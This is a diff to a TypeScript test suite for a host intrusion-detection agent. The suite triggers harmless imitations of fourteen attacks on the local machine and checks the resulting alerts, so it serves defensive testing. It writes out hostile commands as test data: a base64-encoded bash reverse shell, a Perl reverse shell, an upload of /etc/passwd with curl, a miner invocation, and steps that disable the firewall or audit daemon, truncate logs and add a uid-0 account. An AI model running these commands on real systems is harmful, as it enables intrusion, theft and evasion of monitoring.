@@ -15,17 +15,17 @@ import { missingForAudit } from './missing-for-audit.ts';
 import { missingForSshd, SshServer } from './sshd.ts';
 
 /**
- * How long an alert is waited for. It takes less than 5 s, as the table shows (VAKT_PRINT_TABLE=1), on a machine that has nothing
- * else to do; this one may be shared.
+ * Time limit for an alert. On an idle machine, an alert takes less than 5 s, as the table shows (VAKT_PRINT_TABLE=1); the machine
+ * of a test may be loaded.
  */
 const LIMIT = seconds(60);
-/** In which a second alert would come. */
+/** Time in which a second alert would arrive. */
 const QUIET = seconds(5);
-/** An account without rights. */
+/** An unprivileged account. */
 const NOBODY = 65_534;
 /**
- * Users that nothing else runs as. The agent sees the shells of other tests, too, and what the same user does with the same
- * program is one alert.
+ * Users of no other process. The agent also sees the shells of other tests, and actions of the same user with the same program are
+ * one alert.
  */
 const [STRANGER, ANOTHER, WRAPPED, FLOODING, QUIET_USER, FORGER] = [
   61_234, 61_235, 61_236, 61_237, 61_238, 61_239,
@@ -33,10 +33,10 @@ const [STRANGER, ANOTHER, WRAPPED, FLOODING, QUIET_USER, FORGER] = [
 
 const DESIRED = {
   ...QUICK,
-  // Half a day, the default: no snapshot that is sent shows a change.
+  // About the default, so that no snapshot sent during the test contains a change.
   snapshotFrequency: { value: 'PT13H' },
   maxLocalCacheSizeInBytes: { value: 64_000_000 },
-  // The rules see new ports nevertheless.
+  // The rules still evaluate new ports.
   eventPriorityListeningPorts: { value: 'Off' },
 };
 
@@ -46,21 +46,21 @@ const control = (name: string): string =>
 
 type Start = readonly [program: string, ...args: string[]];
 
-/** What looks like an attack to the agent, and harms nothing. */
+/** A harmless imitation of an attack. */
 interface Attack {
   readonly type: string;
   readonly level: 'High' | 'Medium';
-  /** The program and its arguments, with the marker in one of them. */
+  /** The program and its arguments, one of which contains the marker. */
   readonly start: Start;
   readonly userId?: number;
-  /** What the rule matched in a reading of the command line, when that isn't the command line as it is. */
+  /** The decoded command line that the rule matched, if it differs from the command line. */
   readonly matched?: RegExp;
 }
 
-/** What was done, what alert came of it, and after how many seconds. */
-const rows: { what: string; alert: Payload; took: number }[] = [];
+/** The attacks with their alerts, and the seconds until the alert arrived. */
+const rows: { attack: string; alert: Payload; took: number }[] = [];
 
-describe('Alerts of attacks that really happen', function () {
+describe('An agent under attack', function () {
   this.timeout(180_000);
   const marker = `vakt${process.pid}`;
   const table = `vakt_${process.pid}`;
@@ -81,7 +81,7 @@ describe('Alerts of attacks that really happen', function () {
     folder = suiteFolder();
     chmodSync(folder, 0o755);
     sshd = await SshServer.start();
-    // A policy without effect: the rule before it accepts all packets but those that nobody makes.
+    // A policy without effect: the rule before it accepts all packets except those with a mark that no program sets.
     nft(`add table inet ${table}`);
     hasTable = true;
     nft(`add chain inet ${table} input { type filter hook input priority 300; policy drop; }`);
@@ -116,14 +116,14 @@ describe('Alerts of attacks that really happen', function () {
   const isMarked = ({ CommandLine, ParentCommandLine }: Payload) =>
     `${CommandLine} ${ParentCommandLine}`.includes(marker);
 
-  /** A path in the test's folder. */
+  /** Returns a path in the test's folder. */
   const scratch = (path: string, text?: string): string => {
     const file = join(folder, marker, path);
     mkdirSync(dirname(file), { recursive: true });
     if (text !== undefined) writeFileSync(file, text);
     return file;
   };
-  /** A program of that name that does nothing. */
+  /** Creates a program of this name that does nothing. */
   const stub = (name: string): string => {
     const file = scratch(name);
     if (!existsSync(file)) copyFileSync('/usr/bin/true', file);
@@ -137,24 +137,24 @@ describe('Alerts of attacks that really happen', function () {
     return child.pid;
   };
 
-  /** Acts, and waits for the alert. @param since whether the seconds are counted from the beginning or the end of the act */
+  /** Attacks and waits for the alert. @param since whether the seconds are counted from the beginning or the end of the attack */
   const raises = async <T>(
-    what: string,
+    attack: string,
     act: () => T,
-    isMeant: (alert: Payload) => boolean,
+    isExpected: (alert: Payload) => boolean,
     { since = 'beginning' }: { since?: 'beginning' | 'end' } = {},
   ): Promise<{ alert: Payload; result: Awaited<T> }> => {
     let began = systemClock.monotonic();
     const result = await act();
     if (since === 'end') began = systemClock.monotonic();
     await until(
-      () => `the alert of: ${what}; there are ${JSON.stringify(alerts())}`,
-      () => alerts().some(isMeant),
+      () => `the alert of: ${attack}; alerts: ${JSON.stringify(alerts())}`,
+      () => alerts().some(isExpected),
       { limit: LIMIT },
     );
     const took = (systemClock.monotonic() - began) / 1_000;
-    const [alert = {}] = alerts().filter(isMeant);
-    rows.push({ what, alert, took });
+    const [alert = {}] = alerts().filter(isExpected);
+    rows.push({ attack, alert, took });
     return { alert, result };
   };
   const ofType = (type: string) => alerts().filter(({ AlertType }) => AlertType === type);
@@ -167,18 +167,18 @@ describe('Alerts of attacks that really happen', function () {
   const encoded = (script: string) => Buffer.from(script).toString('base64');
 
   const attacks = (): Record<string, Attack> => ({
-    'A shell of bash to another machine, by an account without rights': {
+    'A reverse shell of bash, by an unprivileged account': {
       type: 'IoT_ReverseShell',
       level: 'High',
       start: reverseShell,
       userId: NOBODY,
     },
-    'A shell of Perl to another machine': {
+    'A reverse shell of Perl': {
       type: 'IoT_ReverseShell',
       level: 'High',
       start: ['/usr/bin/perl', '-e', perlShell, marker],
     },
-    'The same in Base64, decoded into a shell': {
+    'A reverse shell in Base64, decoded into a shell': {
       type: 'IoT_ReverseShell',
       level: 'High',
       start: ['/bin/sh', '-c', `: ${marker}; echo ${encoded('bash -i >& /dev/tcp/127.0.0.1/1 0>&1')} | base64 -d | sh`],
@@ -195,12 +195,12 @@ describe('Alerts of attacks that really happen', function () {
       level: 'High',
       start: [stub('xmrig'), '-o', `stratum+tcp://127.0.0.1:1`, '-u', marker, '--donate-level=1'],
     },
-    'A log emptied': {
+    'A log truncated': {
       type: 'IoT_RemovelOfSystemLogs',
       level: 'Medium',
       start: ['/usr/bin/truncate', '-s', '0', scratch('var/log/auth.log', 'a line\n')],
     },
-    'The firewall switched off': { type: 'IoT_DisableFirewall', level: 'High', start: [stub('ufw'), 'disable'] },
+    'The firewall disabled': { type: 'IoT_DisableFirewall', level: 'High', start: [stub('ufw'), 'disable'] },
     'The audit daemon stopped': {
       type: 'IoT_DisableAuditdLogging',
       level: 'High',
@@ -216,44 +216,44 @@ describe('Alerts of attacks that really happen', function () {
       level: 'Medium',
       start: ['/usr/bin/install', '-m', '4755', '/bin/true', scratch('sh')],
     },
-    'A job from a temporary folder': {
+    'A cron job from a temporary folder': {
       type: 'IoT_LinuxBackdoor',
       level: 'Medium',
       start: [stub('crontab'), scratch('job', '')],
     },
-    'A file sent away': {
+    'A file uploaded': {
       type: 'IoT_EgressData',
       level: 'Medium',
       start: ['/usr/bin/curl', '-s', '-T', '/etc/passwd', `http://127.0.0.1:1/${marker}`],
     },
-    'An account with root rights': {
+    'An account with user id 0': {
       type: 'IoT_SuspiciousUseradd',
       level: 'Medium',
       start: [stub('useradd'), '-o', '-u', '0', 'toor'],
     },
-    'A container with all rights': {
+    'A privileged container': {
       type: 'IoT_PrivilegedContainer',
       level: 'Medium',
       start: [stub('docker'), 'run', '--privileged', '-v', '/:/host', 'alpine'],
     },
   });
 
-  it('are one for each of fourteen attacks, with the evidence', async () => {
+  it('raises one alert with its evidence for each of fourteen attacks', async () => {
     const pids = new Map<number, string>();
-    for (const [what, { type, level, start, userId = 0, matched }] of Object.entries(attacks())) {
+    for (const [attack, { type, level, start, userId = 0, matched }] of Object.entries(attacks())) {
       const known = new Set(alerts().map(({ AlertId }) => AlertId));
       const isNew = (alert: Payload) => isMarked(alert) && !known.has(alert.AlertId);
-      const { alert, result: pid } = await raises(what, () => run(start, userId), isNew);
-      pids.set(pid, what);
-      const told = JSON.stringify(alert);
-      assert.deepEqual([alert.AlertType, alert.Severity, alert.Count], [type, level, 1], told);
-      assert.deepEqual([alert.EventName, alert.RuleSource], ['ProcessCreate', 'builtin'], told);
+      const { alert, result: pid } = await raises(attack, () => run(start, userId), isNew);
+      pids.set(pid, attack);
+      const json = JSON.stringify(alert);
+      assert.deepEqual([alert.AlertType, alert.Severity, alert.Count], [type, level, 1], json);
+      assert.deepEqual([alert.EventName, alert.RuleSource], ['ProcessCreate', 'builtin'], json);
       assert.equal(alert.CommandLine, start.join(' '));
-      assert.deepEqual([alert.ProcessId, alert.ParentProcessId], [pid, process.pid], told);
-      assert.equal(alert.UserId, String(userId), told);
-      assert.equal(alert.ParentExecutable, realpathSync(process.execPath), told);
+      assert.deepEqual([alert.ProcessId, alert.ParentProcessId], [pid, process.pid], json);
+      assert.equal(alert.UserId, String(userId), json);
+      assert.equal(alert.ParentExecutable, realpathSync(process.execPath), json);
       if (matched !== undefined) {
-        assert.match(String((alert.ExtraDetails as Payload).MatchedCommandLine), matched, told);
+        assert.match(String((alert.ExtraDetails as Payload).MatchedCommandLine), matched, json);
       }
       await bed.waitForEvents(() => bed.events('ProcessCreate').some(({ Id }) => Id === alert.EventIds));
       const about = bed.events('ProcessCreate').find(({ Id }) => Id === alert.EventIds);
@@ -271,7 +271,7 @@ describe('Alerts of attacks that really happen', function () {
     );
   });
 
-  it('are counted, not raised again, when an attack is repeated', async () => {
+  it('counts a repeated attack and does not raise a second alert', async () => {
     await run(reverseShell, ANOTHER);
     await until('the first', () => alerts().some((alert) => isMarked(alert) && alert.UserId === String(ANOTHER)));
     const { counted } = (await agent.status()).detections ?? assert.fail();
@@ -282,7 +282,7 @@ describe('Alerts of attacks that really happen', function () {
     assert.equal(alerts().filter(isMarked).length, before);
   });
 
-  /** The reverse shell to another port, and so to another target. */
+  /** Returns a reverse shell to another port, which is another target. */
   const shellTo = (port: number): Start => [
     '/bin/bash',
     '-c',
@@ -290,7 +290,7 @@ describe('Alerts of attacks that really happen', function () {
   ];
   const alertsOf = (userId: number) => alerts().filter((alert) => isMarked(alert) && alert.UserId === String(userId));
 
-  it('count wrappers and their command as one, and raise another alert for a second target', async () => {
+  it('raises one alert for wrappers and their command, and another alert for a second target', async () => {
     await raises(
       'A shell started by timeout and nohup',
       () => run(['/usr/bin/timeout', '5', 'nohup', ...shellTo(2)], WRAPPED),
@@ -306,7 +306,7 @@ describe('Alerts of attacks that really happen', function () {
     ]);
   });
 
-  it('arrive for another user, and for another rule, after 120 harmless alerts of one user', async () => {
+  it('raises alerts for another user and another rule after 120 alerts of one user', async () => {
     const harmless = (n: number): Start => ['/bin/cat', '/etc/shadow', `/nonexistent/${marker}-${n}`];
     await Promise.all(Array.from({ length: 120 }, (_, n) => run(harmless(n), FLOODING)));
     const isHeldBack = ({ ExtraDetails }: Payload) =>
@@ -334,7 +334,7 @@ describe('Alerts of attacks that really happen', function () {
     assert.equal(alert.ParentCommandLine, `${forged} ${script}`);
   });
 
-  it('reports it one level lower, with the package manager, when a script of a package does the same', async () => {
+  it('lowers the level by one and names the package manager for the same attack by a package script', async () => {
     const name = `vakt-actors-${process.pid}`;
     const written = scratch('package/DEBIAN/control', control(name));
     const line = `${stub('systemctl')} stop auditd ${marker}-package`;
@@ -359,7 +359,7 @@ describe('Alerts of attacks that really happen', function () {
     }
   });
 
-  it('names the program that started an attack when its process has executed another one since', async () => {
+  it('names the program that started an attack even if its process has since executed another program', async () => {
     const line = `${stub('xmrig')} -o stratum+tcp://127.0.0.1:1 -u ${marker}-later`;
     const start: Start = ['/bin/bash', '-c', `${line}; exec /usr/bin/sleep 1`];
     const isIt = ({ CommandLine }: Payload) => CommandLine === line;
@@ -371,16 +371,16 @@ describe('Alerts of attacks that really happen', function () {
     );
   });
 
-  it('are one for a port that is opened', async () => {
+  it('raises one alert for a new listening port', async () => {
     const server = createServer();
     try {
       const isIt = ({ LocalPort }: Payload) => LocalPort === String((server.address() as AddressInfo).port);
       const { alert } = await raises('A port opened', () => once(server.listen(0, '0.0.0.0'), 'listening'), isIt);
-      const told = JSON.stringify(alert);
-      assert.deepEqual([alert.AlertType, alert.Severity, alert.Count], ['VAKT_NewListeningPort', 'Medium', 1], told);
-      assert.deepEqual([alert.Protocol, alert.LocalAddress, alert.UserId], ['tcp', '0.0.0.0', '0'], told);
-      assert.equal(alert.Executable, realpathSync(process.execPath), told);
-      assert.deepEqual([alert.ProcessId, alert.ParentProcessId], [process.pid, process.ppid], told);
+      const json = JSON.stringify(alert);
+      assert.deepEqual([alert.AlertType, alert.Severity, alert.Count], ['VAKT_NewListeningPort', 'Medium', 1], json);
+      assert.deepEqual([alert.Protocol, alert.LocalAddress, alert.UserId], ['tcp', '0.0.0.0', '0'], json);
+      assert.equal(alert.Executable, realpathSync(process.execPath), json);
+      assert.deepEqual([alert.ProcessId, alert.ParentProcessId], [process.pid, process.ppid], json);
       await systemClock.sleep(QUIET);
       assert.equal(alerts().filter(isIt).length, 1);
       assert.deepEqual(bed.events('ListeningPorts'), []);
@@ -389,7 +389,7 @@ describe('Alerts of attacks that really happen', function () {
     }
   });
 
-  it('are one for an account that is added', async () => {
+  it('raises one alert for a new account', async () => {
     const add = () => {
       hasUser = true;
       execFileSync('/usr/sbin/useradd', ['--no-create-home', '--shell', '/bin/bash', user]);
@@ -408,23 +408,23 @@ describe('Alerts of attacks that really happen', function () {
     assert.equal(bed.events('LocalUsers').length, 1);
   });
 
-  it('are one for each opening of the packet filter', async () => {
+  it('raises one alert for each change that opens the packet filter', async () => {
     const openings = [
       ['Policy set to accept', 'VAKT_FirewallPolicyPermissive', `chain inet ${table} input { policy accept; }`],
       ['Rule that accepts all', 'VAKT_FirewallRulePermissive', `add rule inet ${table} input accept`],
     ] as const;
-    for (const [what, type, command] of openings) {
+    for (const [change, type, command] of openings) {
       const isIt = (alert: Payload) =>
         alert.AlertType === type && (alert.ExtraDetails as Payload | undefined)?.Table === table;
-      const { alert } = await raises(`Packet filter: ${what}`, () => nft(command), isIt);
-      const told = JSON.stringify(alert);
-      assert.deepEqual([alert.Severity, alert.Count, alert.EventName], ['Medium', 1, 'FirewallConfiguration'], told);
+      const { alert } = await raises(`Packet filter: ${change}`, () => nft(command), isIt);
+      const json = JSON.stringify(alert);
+      assert.deepEqual([alert.Severity, alert.Count, alert.EventName], ['Medium', 1, 'FirewallConfiguration'], json);
       await systemClock.sleep(QUIET);
       assert.equal(alerts().filter(isIt).length, 1);
     }
   });
 
-  it('are one for passwords that are guessed at a real sshd, and one for the login that follows', async () => {
+  it('raises one alert for a brute force at a real sshd, and one for the successful login after it', async () => {
     const guess = () =>
       Promise.all(Array.from({ length: 5 }, () => sshd.visit({ passwords: ['wrong', 'also wrong', 'no better'] })));
     const isGuessing = ({ AlertType }: Payload) => AlertType === 'VAKT_FailedBruteForce';
@@ -432,9 +432,9 @@ describe('Alerts of attacks that really happen', function () {
     assert.deepEqual([failed.alert.Severity, failed.alert.RemoteAddress], ['Medium', '127.0.0.1']);
     const isLogin = ({ AlertType }: Payload) => AlertType === 'VAKT_SuccessfulBruteForce';
     const { alert } = await raises('Logged in after that', () => sshd.visit({ command: ['true'] }), isLogin);
-    const told = JSON.stringify(alert);
-    assert.deepEqual([alert.Severity, alert.EventName, alert.Result], ['High', 'Login', 'Success'], told);
-    assert.deepEqual([alert.UserName, alert.RemoteAddress, alert.Count], [sshd.user, '127.0.0.1', 1], told);
+    const json = JSON.stringify(alert);
+    assert.deepEqual([alert.Severity, alert.EventName, alert.Result], ['High', 'Login', 'Success'], json);
+    assert.deepEqual([alert.UserName, alert.RemoteAddress, alert.Count], [sshd.user, '127.0.0.1', 1], json);
     await systemClock.sleep(QUIET);
     for (const type of ['VAKT_FailedBruteForce', 'VAKT_SuccessfulBruteForce']) {
       assert.equal(ofType(type).length, 1, type);
@@ -443,11 +443,11 @@ describe('Alerts of attacks that really happen', function () {
 
   function printTable(): void {
     const lines = rows.map(
-      ({ what, alert, took }) => `| ${what} | ${alert.AlertType} | ${alert.Severity} | ${took.toFixed(1)} |`,
+      ({ attack, alert, took }) => `| ${attack} | ${alert.AlertType} | ${alert.Severity} | ${took.toFixed(1)} |`,
     );
     const sorted = rows.map(({ took }) => took).sort((a, b) => a - b);
     const [median = 0, worst = 0] = [sorted[Math.floor(sorted.length / 2)], sorted.at(-1)];
-    const summary = `median ${median.toFixed(1)} s, worst ${worst.toFixed(1)} s, from the beginning of the act to the hub`;
+    const summary = `median ${median.toFixed(1)} s, worst ${worst.toFixed(1)} s, from the beginning of the attack to the hub`;
     process.stdout.write(
       ['', '| attack | alert | level | seconds |', '| --- | --- | --- | --- |', ...lines, '', summary, ''].join('\n'),
     );
